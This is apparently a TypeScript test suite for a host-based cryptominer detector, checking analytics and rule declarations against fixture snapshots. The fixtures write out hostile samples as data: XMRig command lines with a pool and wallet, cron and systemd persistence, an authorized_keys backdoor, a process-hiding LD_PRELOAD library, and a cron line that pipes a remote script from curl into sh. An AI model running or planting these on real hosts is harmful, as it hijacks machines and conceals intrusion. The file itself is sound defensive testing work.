/**
 * Every host analytic passes these: a new one is a folder plus a registry
 * line, and this suite runs it on a snapshot with every kind of evidence.
 */
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { test } from 'node:test';
import type { Finding } from '../../core/finding.ts';
import { FindingSchema, makeFinding } from '../../core/finding.ts';
import type { HostSnapshot } from '../../core/host-snapshot.ts';
import type { RuleDeclaration } from '../../core/stages.ts';
import { declarationProblems } from '../catalog.ts';
import { RECORDED_MINER_MINUTE } from './behaviour/recorded-minute.ts';
import { PERSISTENCE_TECHNIQUE } from './persistence/index.ts';
import { HOST_ANALYTICS, hostDetector } from './registry.ts';
import { HOST_RULES } from './rules.ts';
import { processInfo, snapshot } from './snapshot-fixture.ts';

function deepFreeze<T>(o: T): T {
  if (o && typeof o === 'object' && !Object.isFrozen(o)) {
    Object.freeze(o);
    for (const v of Object.values(o)) deepFreeze(v);
  }
  return o;
}

const WALLET =
  '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const busy = snapshot({
  windowMs: 10_000,
  processes: [
    processInfo({
      pid: 1,
      name: 'kswapd0',
      exe: '/tmp/.x/kswapd0',
      exeDeleted: true,
      argv: ['kswapd0', '-o', 'stratum+tcp://198.51.100.1:3333', '-u', WALLET],
      cpuCores: 1,
      cpuSeries: [1, 1, 1, 1, 1],
    }),
    processInfo({
      pid: 2,
      name: 'svchost.exe',
      exe: '/var/tmp/svchost.exe',
      packaged: false,
      cpuCores: 0.25,
      cpuSeries: [0.25, 0.25, 0.26, 0.24, 0.25],
    }),
    processInfo({ pid: 3, name: 'kworker/0:1', kernelThread: true, argv: [] }),
  ],
  sockets: [
    {
      protocol: 'tcp',
      family: 4,
      localIp: '192.0.2.10',
      localPort: 40000,
      remoteIp: '198.51.100.1',
      remotePort: 3333,
      state: 'ESTABLISHED',
      inode: '9',
      uid: 0,
      netns: 'net:[1]',
      pid: 1,
    },
  ],
  newOutbound: { 2: 100 },
  files: [
    { path: '/etc/cron.d/x', kind: 'cron', text: '* * * * * root /tmp/.x/kswapd0\n', truncated: false },
    {
      path: '/tmp/.x/config.json',
      kind: 'miner-config',
      text: JSON.stringify({ pools: [{ url: 'pool.example:3333', user: WALLET }] }),
      truncated: false,
    },
  ],
});
deepFreeze(busy);
const ctx = deepFreeze({
  allowlist: [{ name: 'sshd', line: 1 }],
  poolIntel: { matchIp: () => undefined, matchPool: () => undefined },
});

for (const a of HOST_ANALYTICS) {
  test(`analytic ${a.id}: one folder, pure, deterministic, well-formed signals`, () => {
    assert.match(a.id, /^[a-z][a-z0-9-]*$/);
    assert.ok(existsSync(new URL(`./${a.id}/index.ts`, import.meta.url)), `src/detect/host/${a.id}/index.ts`);
    assert.ok(a.description.length > 10);
    // A frozen input makes any mutation throw.
    const out1 = a.analyze(busy, ctx);
    const out2 = a.analyze(busy, ctx);
    assert.deepEqual(out1, out2, 'same input, same output');
    assert.ok(out1.length > 0, 'fires on a snapshot full of miner evidence');
    for (const o of out1) {
      const s = o.signal;
      assert.match(s.id, /^[a-z]+\.[a-z_]+$/);
      assert.ok(s.weight > 0 && s.weight <= 10, `${s.id} weight ${s.weight}`);
      for (const t of s.techniques) assert.match(t, /^T\d{4}(\.\d{3})?$/, `${s.id} technique ${t}`);
      assert.ok(s.text.length > 5 && !s.text.endsWith('.'), `${s.id}: text is a clause the correlator joins`);
      if (o.kind === 'process')
        assert.ok(
          busy.processes.some((p) => p.pid === o.pid && !p.kernelThread),
          `${s.id} on a user process`,
        );
    }
  });
}

/**
 * Snapshots that between them make every rule the host scanner declares
 * fire, so a rule that is emitted but not declared (or declared but never
 * emitted) shows here.
 */
const MINER_LINE = '/opt/.x/xmrig -o stratum+tcp://198.51.100.1:3333 -u x';
const persistenceFiles = Object.keys(PERSISTENCE_TECHNIQUE).map((kind) => ({
  path: `/persist/${kind}`,
  kind,
  text:
    kind === 'systemd'
      ? `[Service]\nExecStart=${MINER_LINE}\n`
      : kind === 'authorized-keys'
        ? `command="${MINER_LINE}" ssh-ed25519 AAAAC3Nza attacker\n`
        : kind === 'ld-preload'
          ? '/usr/local/lib/libprocesshider.so\n'
          : kind === 'autostart'
            ? `[Desktop Entry]\nExec=${MINER_LINE}\n`
            : `${MINER_LINE}\n`,
  truncated: false,
}));
const zoo: HostSnapshot[] = [
  busy,
  snapshot({
    host: { name: 'WEB-01.corp.example', os: 'linux', cpus: 4 },
    processes: [
      processInfo({
        pid: 30,
        name: 'worker',
        exe: '/usr/bin/worker',
        cpuCores: 0.25,
        cpuSeries: [0.25, 0.26, 0.24, 0.25, 0.25, 0.26],
      }),
      processInfo({ pid: 40, name: 'agent', exe: '/usr/bin/agent' }),
      processInfo({ pid: 50, name: 'updater', exe: '/opt/tools/updater' }),
      processInfo({ pid: 60, name: 'report', exe: '/opt/tools/report' }),
      // A real minute of a capped XMRig under an ordinary name: the behaviour analytic's series.
      processInfo({
        pid: 70,
        name: 'helper',
        exe: '/usr/local/bin/helper',
        packaged: false,
        behaviour: RECORDED_MINER_MINUTE,
      }),
    ],
    sockets: [
      {
        protocol: 'tcp',
        family: 4,
        localIp: '192.0.2.10',
        localPort: 40000,
        remoteIp: '198.51.100.7',
        remotePort: 3333,
        state: 'ESTABLISHED',
        inode: '1',
        uid: 0,
        netns: 'net:[1]',
        pid: 40,
      },
    ],
    files: [
      ...persistenceFiles,
      {
        path: '/etc/cron.d/update',
        kind: 'cron',
        text: '* * * * * root curl -fsSL http://203.0.113.5/x.sh | sh && /opt/tools/updater\n',
        truncated: false,
      },
    ],
  }),
];
const zooContext = {
  allowlist: [
    { name: 'worker', line: 1 },
    { name: 'agent', line: 2 },
  ],
};
const zooFindings: Finding[] = zoo.flatMap((s) => hostDetector.detect(s, zooContext));

test('host findings: every rule id declared, severities within the declared ranges', () => {
  assert.deepEqual(declarationProblems(zooFindings, hostDetector.rules), []);
  assert.equal(hostDetector.rules, HOST_RULES);
});

test('every declared host rule fires on some snapshot (no dead declarations)', () => {
  const fired = new Set(zooFindings.map((f) => f.rule.id));
  assert.deepEqual(
    hostDetector.rules.map((r) => r.id).filter((id) => !fired.has(id)),
    [],
  );
});

test('host findings follow the finding contract and name the host canonically', () => {
  for (const f of zooFindings) {
    const parsed = FindingSchema.safeParse(f);
    assert.ok(parsed.success, `${f.rule.id}: ${parsed.error?.message}`);
  }
  const named = zooFindings.filter((f) => f.host.hostname !== undefined);
  assert.ok(named.length > 0);
  for (const f of named) {
    assert.equal(f.host.name, 'web-01', 'the short, lower-case host name is the identity');
    assert.equal(f.host.hostname, 'WEB-01.corp.example', 'the name as the host reported it is kept');
  }
});

test('the conformance check fails a finding whose rule is undeclared or whose severity is out of range', () => {
  const narrow: RuleDeclaration[] = HOST_RULES.map((r) =>
    r.id === 'deminer.process.miner' ? { ...r, severity: { min: 'low', max: 'medium' } } : r,
  );
  const miner = zooFindings.find((f) => f.rule.id === 'deminer.process.miner' && f.severity === 'critical');
  assert.ok(miner, 'the busy snapshot has a critical miner');
  assert.match(declarationProblems([miner], narrow).join('\n'), /severity critical outside/);
  const stray = makeFinding({
    rule: { id: 'deminer.process.stray', name: 'Stray', ruleset: 'builtin' },
    severity: 'low',
    techniques: [],
    host: 'web-01',
    subject: [],
    message: 'not a declared rule',
  });
  assert.match(declarationProblems([stray], HOST_RULES).join('\n'), /not declared/);
});
